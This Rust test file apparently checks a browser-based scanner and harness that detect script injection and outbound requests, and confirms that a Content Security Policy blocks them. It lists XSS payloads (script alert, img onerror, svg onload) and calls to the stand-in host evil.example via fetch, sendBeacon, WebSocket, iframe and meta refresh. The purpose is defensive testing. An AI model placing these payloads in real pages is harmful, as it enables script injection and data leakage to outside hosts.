//! Proof that the other tests can fail: what they look for is found where nothing protects.

use axum::Router;
use axum::response::Html;
use axum::routing::get;
use serde_json::json;
use tokio::net::TcpListener;

use crate::browser::Browser;
use crate::hostile::{Kind, Payload, payloads};
use crate::page::Options;

/// Where a careless program would put a text into HTML.
fn careless(payload: &Payload) -> Vec<String> {
    let text = payload.text;
    let quoted = text.replace('"', "&quot;");
    match payload.kind {
        Kind::Html => vec![
            text.to_owned(),
            format!("<p title=\"{text}\">x</p>"),
            format!("<p title='{text}'>x</p>"),
            format!("<p title={text}>x</p>"),
        ],
        Kind::Address => vec![
            format!("<a href=\"{text}\">x</a>"),
            format!("<a href=\"{quoted}\">x</a>"),
        ],
        Kind::Text | Kind::Disguise | Kind::Markdown => vec![],
    }
}

#[tokio::test]
async fn the_scan_sees_every_payload_where_nothing_protects() {
    let browser = Browser::start().await;
    let page = browser.page(Options::default()).await;
    let scan = include_str!("scan.js");
    let mut missed = Vec::new();
    for payload in payloads() {
        let pages: Vec<String> = careless(&payload)
            .into_iter()
            .map(|html| format!("<!doctype html><article>{html}\n<p>x</p></article>"))
            .collect();
        let script = format!(
            "{}.some(html => ({scan})(new DOMParser().parseFromString(html, 'text/html'), 'http://127.0.0.1/a/b').length > 0)",
            json!(pages)
        );
        if !pages.is_empty() && page.eval(&script).await != true {
            missed.push(payload);
        }
    }
    assert!(missed.is_empty(), "harmless, or not seen: {missed:#?}");
}

#[tokio::test]
async fn what_runs_loads_or_asks_is_seen() {
    const POLICY: &str = "default-src 'self'";
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    // What a page holds; the dialogs and the request that must be seen, and what an error must say, if there must be one.
    let cases = [
        ("<p>x</p>", "", "", ""),
        ("<script>alert(1)</script>", "1", "", ""),
        ("<body onload='confirm(2);prompt(3)'>", "2,3", "", ""),
        ("<img src=x onerror=alert(4)>", "4", "", "404"),
        ("<svg onload=alert(5)>", "5", "", ""),
        ("<script>setTimeout(() => alert(6), 0)</script>", "6", "", ""),
        (
            "<img src=https://evil.example/a.png>",
            "",
            "Image https://evil.example/a.png",
            "ERR_",
        ),
        (
            "<link rel=stylesheet href=//evil.example/s.css>",
            "",
            "Stylesheet http://evil.example/s.css",
            "ERR_",
        ),
        (
            "<script>fetch('http://evil.example/f')</script>",
            "",
            "Fetch http://evil.example/f",
            "ERR_",
        ),
        (
            "<script>navigator.sendBeacon('http://evil.example/b', 'x')</script>",
            "",
            "Ping http://evil.example/b",
            "",
        ),
        (
            "<script>new WebSocket('ws://evil.example/w')</script>",
            "",
            "WebSocket ws://evil.example/w",
            "WebSocket",
        ),
        (
            "<script>open('http://evil.example/o')</script>",
            "",
            "Window http://evil.example/o",
            "",
        ),
        (
            "<iframe src=http://evil.example/i></iframe>",
            "",
            "Document http://evil.example/i",
            "",
        ),
        (
            "<meta http-equiv=refresh content='0;url=http://evil.example/r'>",
            "",
            "Navigation http://evil.example/r",
            "",
        ),
        ("<script>console.error('oh')</script>", "", "", "oh"),
        ("<script>nothing()</script>", "", "", "nothing is not defined"),
    ];
    let denied = [
        ("<script>alert(1)</script>", "", "", "Content Security Policy"),
        ("<b style='color:red'>x</b>", "", "", "Content Security Policy"),
        (
            "<img src=https://evil.example/d.png>",
            "",
            "Image https://evil.example/d.png",
            "Content Security Policy",
        ),
    ];
    let mut router = Router::new();
    for (index, (html, ..)) in cases.into_iter().enumerate() {
        router = router.route(&format!("/{index}"), get(move || async move { Html(html) }));
    }
    for (index, (html, ..)) in denied.into_iter().enumerate() {
        let answer = move || async move { ([("content-security-policy", POLICY)], Html(html)) };
        router = router.route(&format!("/denied/{index}"), get(answer));
    }
    tokio::spawn(async move { axum::serve(listener, router).await });

    let browser = Browser::start().await;
    let all = cases
        .iter()
        .enumerate()
        .map(|(index, case)| (format!("{origin}/{index}"), case));
    let all = all.chain(
        denied
            .iter()
            .enumerate()
            .map(|(index, case)| (format!("{origin}/denied/{index}"), case)),
    );
    let page = browser.page(Options::default()).await;
    for (url, (html, dialogs, request, error)) in all {
        page.goto(&url).await;
        let seen = page.take_seen();
        assert_eq!(seen.dialogs.join(","), *dialogs, "{html}: {seen:?}");
        let foreign = seen.foreign(&origin);
        // A navigation is told as what asked for it and as what was loaded.
        let found = if request.is_empty() {
            foreign.is_empty()
        } else {
            foreign.iter().any(|one| one == request)
        };
        assert!(found, "{html}: {seen:?}");
        let errors: Vec<String> = seen
            .errors(&url)
            .into_iter()
            .filter(|error| !error.contains("favicon"))
            .collect();
        assert!(
            error.is_empty() || errors.iter().any(|one| one.contains(error)),
            "{html}: {errors:?} {seen:?}"
        );
        assert!(url != format!("{origin}/0") || errors.is_empty(), "{errors:?}");
    }
    let calls = page.calls();
    assert!(
        calls.iter().any(|call| call.contains("/b")) && calls.len() >= 6,
        "{calls:?}"
    );
    assert!(!calls.iter().any(|call| call.contains("d.png")), "{calls:?}");

    // Without the policy, what it denied happens.
    page.become_like(Options {
        policy: false,
        ..Options::default()
    })
    .await;
    page.goto(&format!("{origin}/denied/0")).await;
    assert_eq!(page.take_seen().dialogs, ["1"]);
    // Without scripts, nothing does.
    page.become_like(Options {
        script: false,
        ..Options::default()
    })
    .await;
    page.goto(&format!("{origin}/1")).await;
    assert!(page.take_seen().dialogs.is_empty());
}
